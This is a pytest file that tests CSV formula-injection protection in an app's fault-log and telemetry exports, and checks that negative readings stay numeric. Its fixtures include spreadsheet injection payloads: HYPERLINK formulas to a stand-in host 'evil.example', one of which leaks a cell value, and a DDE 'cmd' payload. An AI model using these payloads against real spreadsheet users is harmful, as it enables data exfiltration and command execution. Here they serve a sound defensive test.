"""CSV injection: text that a spreadsheet would run as a formula is written as text, in the
fault log and in telemetry exports, while negative numbers stay numbers."""

import csv
import io

import pytest
from sqlalchemy.ext.asyncio import AsyncEngine

from app.core.csv_safety import csv_cell
from tests.api.conftest import Recorded
from tests.db import psycopg_dsn, query_rows
from tests.factories import committed_device_site
from tests.server import LiveServer
from tests.wire import batch, event, post_batch


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("https://evil.example","x")', '\'=HYPERLINK("https://evil.example","x")'),
        ("+1+1", "'+1+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("-3.5", "-3.5"),  # text that is a number stays a number
        ("-1e-3", "-1e-3"),
        (-3.5, -3.5),
        (-7, -7),
        ("fuse swapped", "fuse swapped"),
        ("", ""),
    ],
)
def test_formula_text_is_quoted_and_numbers_are_not(value: object, written: object) -> None:
    assert csv_cell(value) == written


NOTE = '=HYPERLINK("https://evil.example/?leak="&A1,"open")'


async def test_the_fault_log_csv_quotes_formulas_and_keeps_negative_values(
    engine: AsyncEngine, server: LiveServer
) -> None:
    site = await committed_device_site(engine)
    cold = event(
        "fault_raised",
        1,
        1,
        2,
        "under_temp_warning",
        cell_v=[3.2] * 16,
        temp_c=[-12.5, -11.0, -10.5, -9.0],
    )
    assert post_batch(server, site.token, batch(site.code, 1, events=[cold])).status_code == 200
    (alarm,), *_ = query_rows(
        psycopg_dsn(server.database_url), "SELECT id FROM alarm WHERE site_id = %s", site.site_id
    )
    acked = server.http.post(f"/alarms/{alarm}/acknowledge", data={"note": NOTE})
    assert acked.status_code < 400, acked.text
    answer = server.http.get(f"/sites/{site.code}/faults.csv", params={"window": "all"})
    (row,) = list(csv.DictReader(io.StringIO(answer.text)))
    assert row["ack_note"] == "'" + NOTE
    assert float(row["value"]) < 0  # a negative reading is still a number
    assert not row["value"].startswith("'")


@pytest.mark.parametrize("layout", ["wide", "long"])
def test_the_export_csv_keeps_negative_currents_numbers(
    server: LiveServer, recorded: Recorded, layout: str
) -> None:
    params = {
        "format": "csv",
        "layout": layout,
        "entity": "string",
        "fields": "current_a",
        "start": recorded.start.isoformat(),
        "end": recorded.end.isoformat(),
    }
    answer = server.http.get(f"/api/v1/sites/{recorded.site.code}/export", params=params)
    assert answer.status_code == 200, answer.text
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    column = "current_a" if layout == "wide" else "value"
    values = [row[column] for row in rows]
    assert any(v.startswith("-") for v in values)  # the recording has negative currents
    assert all(float(v) == float(v) for v in values)  # every one still reads as a number
